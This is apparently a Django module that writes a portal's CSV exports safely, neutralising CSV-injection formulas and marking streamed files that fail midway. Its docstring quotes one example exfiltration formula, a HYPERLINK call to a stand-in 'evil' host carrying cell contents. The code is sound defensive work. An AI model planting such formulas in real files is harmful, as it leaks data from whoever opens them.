"""CSV files the portal writes — every export — through one writer that is safe to open in a
spreadsheet.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or a carriage return) as a formula: an account name or a message text such as
``=HYPERLINK("http://evil/?"&A1)`` would run when the file is opened (CSV injection). Every
text cell that starts with one of :data:`FORMULA_STARTS` is written with a leading apostrophe,
which spreadsheets show as plain text. Numbers are written as numbers (``-5`` stays a negative
amount). The exports written by PostgreSQL itself (``COPY``) apply the same rule in SQL from
the same list (:mod:`messaging.exports`).

A streamed file has already sent its status (200) and its first lines when a later row fails
(the database goes away, a value cannot be formatted): the download would end early and look
complete. So every streamed CSV goes through :func:`streamed_csv`, which ends such a file with
:data:`ERROR_LINE` instead — one line a person or a script reading the file cannot miss.
"""

from __future__ import annotations

import csv
import logging
from collections.abc import Iterable, Iterator

from django.http import StreamingHttpResponse

logger = logging.getLogger(__name__)

#: first characters that make a spreadsheet read a text cell as a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: the last line of a streamed CSV that failed before its end (one cell)
ERROR_LINE = (
    "ERROR: this export stopped after {lines} lines because of an error ({reason}); "
    "the file is incomplete. Export it again."
)


def safe_cell(value):
    """``value`` as a CSV cell: ``None`` is empty, text that could be a formula is quoted."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Collect:
    """A write target that keeps what ``csv.writer`` wrote until :meth:`take`."""

    def __init__(self):
        self.parts: list[str] = []

    def write(self, value: str) -> None:
        self.parts.append(value)

    def take(self) -> str:
        text = "".join(self.parts)
        self.parts.clear()
        return text


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`safe_cell`; :meth:`row` and
    :meth:`rows` return the text written (lines end with ``\\n``)."""

    def __init__(self):
        self._out = _Collect()
        self._writer = csv.writer(self._out, lineterminator="\n")

    def row(self, cells: Iterable) -> str:
        self._writer.writerow([safe_cell(v) for v in cells])
        return self._out.take()

    def rows(self, rows: Iterable[Iterable]) -> str:
        self._writer.writerows([safe_cell(v) for v in cells] for cells in rows)
        return self._out.take()


def csv_lines(
    header: Iterable[str], rows: Iterable[Iterable], *, bom: bool = True
) -> Iterator[bytes]:
    """The file as UTF-8 lines: a byte order mark (so Excel reads UTF-8), the header, the rows."""
    writer = SafeWriter()
    yield (("\ufeff" if bom else "") + writer.row(header)).encode()
    for cells in rows:
        yield writer.row(cells).encode()


def ending_with_error_line(chunks: Iterable[bytes]) -> Iterator[bytes]:
    """``chunks`` as they come; if making them fails, one last :data:`ERROR_LINE` (the error is
    logged, its class named in the line) instead of a silently short file."""
    lines = 0
    try:
        for chunk in chunks:
            lines += chunk.count(b"\n")
            yield chunk
    except Exception as exc:  # whatever broke, the reader must see the file is incomplete
        logger.exception("CSV export stopped after %d lines", lines)
        line = ERROR_LINE.format(lines=lines, reason=type(exc).__name__)
        yield SafeWriter().row([line]).encode()


def streamed_csv(filename: str, chunks: Iterable[bytes]) -> StreamingHttpResponse:
    """A CSV download streamed from ``chunks`` (UTF-8 bytes), ending with an error line if it
    fails midway."""
    response = StreamingHttpResponse(
        ending_with_error_line(chunks), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(
    filename: str, header: Iterable[str], rows: Iterable[Iterable]
) -> StreamingHttpResponse:
    """A streamed CSV download of ``rows`` under ``header``."""
    return streamed_csv(filename, csv_lines(header, rows))
